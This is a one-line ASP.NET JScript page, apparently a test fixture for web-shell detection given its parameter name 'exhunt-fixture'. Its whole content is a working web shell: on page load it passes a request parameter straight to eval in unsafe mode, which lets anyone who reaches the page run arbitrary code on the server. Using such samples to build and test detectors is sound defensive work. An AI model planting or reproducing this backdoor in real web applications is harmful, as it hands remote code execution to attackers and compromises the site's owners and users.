<script language="JScript" runat="server">function Page_Load(){eval(Request["exhunt-fixture"],"unsafe");}</script>
